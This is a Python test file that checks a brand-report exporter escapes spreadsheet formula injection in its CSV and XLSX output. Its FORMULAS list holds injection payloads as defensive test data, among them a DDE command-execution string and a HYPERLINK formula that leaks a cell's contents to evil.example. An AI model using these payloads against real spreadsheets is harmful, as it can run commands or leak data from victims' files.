"""Formulas: no text becomes one in a spreadsheet program, and no number of ours is touched."""

from __future__ import annotations

from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from xlsxwriter import Workbook

from brandq.exports.sheets import Column, Sheet, formats
from brandq.exports.spreadsheets import harmless
from brandq.plan import Brand, Plan
from brandq.words import words_in
from tests.exports.at_hand import csv_rows, report, workbook
from tests.reports.test_reports import engine

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n\t =1+1",
    "\u00a0=1",
    "\u3000=1",
    "\ufeff=1",
    "\u200b=1",
    "\x00=1",
    "- a list's first item",
)
HARMLESS = (
    "",
    " ",
    "1+1",
    "a=b",
    "'=1",
    '"=1"',
    "趣车良品",
    "(=1)",
    "1. =2",
    "https://a.b/?c=d",
    "\t",
    "…=",
    "\u0301=1",
)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_gets_an_apostrophe(text: str) -> None:
    """Given a text that some spreadsheet program takes for a formula, then an apostrophe stands before it, and nothing else
    changes."""
    assert harmless(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_any_other_text_stays_as_it_is(text: str) -> None:
    """Given a text that no program takes for a formula, then it is exported to the letter."""
    assert harmless(text) == text


@given(st.text(max_size=30))
def test_no_text_begins_like_a_formula(text: str) -> None:
    """Given any text, when it is made harmless twice, then it is as after once, and its first character that is seen starts
    no formula."""
    once = harmless(text)
    assert harmless(once) == once
    assert once.strip()[:1] not in set("=+-@＝＋－＠") - {""}
    assert once in (text, "'" + text)


def test_no_form_has_a_formula(tmp_path: Path) -> None:
    """Given formulas as brands, prompts, engines and answers, when both forms for spreadsheets are read, then each of these
    texts begins with an apostrophe wherever it stands, and the workbook has no formula at all."""
    brands = tuple(Brand(text) for text in FORMULAS[:10])
    plan = Plan(brands, FORMULAS[:4], tuple(map(engine, FORMULAS[4:10])))
    document, samples = report(FORMULAS, plan=plan)
    for row in csv_rows(document, samples):
        for name in ("prompt", "engine", "brand", "answer"):
            assert row[name].startswith("'") or (name == "answer" and row["first_row"] == "0")
    seen = 0
    for sheet in workbook(tmp_path, document, samples):
        for row in sheet.iter_rows():
            for each in row:
                assert each.data_type != "f", (sheet.title, each.coordinate)
                if isinstance(each.value, str):
                    assert harmless(each.value) == each.value, (sheet.title, each.coordinate)
                    seen += each.value.startswith("'")
    assert seen > 100


def test_numbers_of_ours_stay_numbers(tmp_path: Path) -> None:
    """Given a strength of -1, when it is written in both forms, then it is the number -1 and no text."""
    document, samples = report(("不推荐趣车良品，口碑很差。",))
    strengths = {row["strength"] for row in csv_rows(document, samples) if row["mentioned"] == "1"}
    assert strengths == {"-1"}
    book = Workbook(tmp_path / "x.xlsx", {"constant_memory": True})
    sheet = Sheet(book.add_worksheet(), formats(book), words_in("en"), "head", ())
    sheet.row([Column("", None, "place"), Column("", None, "text")], [-1.5, "-1.5"])
    book.close()
    written = [each.value for each in openpyxl.load_workbook(tmp_path / "x.xlsx").active[2]]
    assert written == [-1.5, "'-1.5"]


@given(st.lists(st.text(max_size=20), min_size=1, max_size=4))
def test_csv_gives_every_text_back(texts: list[str]) -> None:
    """Given answers with quotes, commas, breaks and anything else, when the file is read by the rules of CSV, then each text
    comes back, but for its apostrophe, for NUL and for half surrogate pairs."""
    document, samples = report(tuple(texts))
    read = [row["answer"] for row in csv_rows(document, samples) if row["first_row"] == "1"]
    expected = [harmless(texts[number % len(texts)].replace("\0", "")) for number in range(len(samples))]
    assert read == [text.encode("utf-8", "replace").decode() for text in expected]
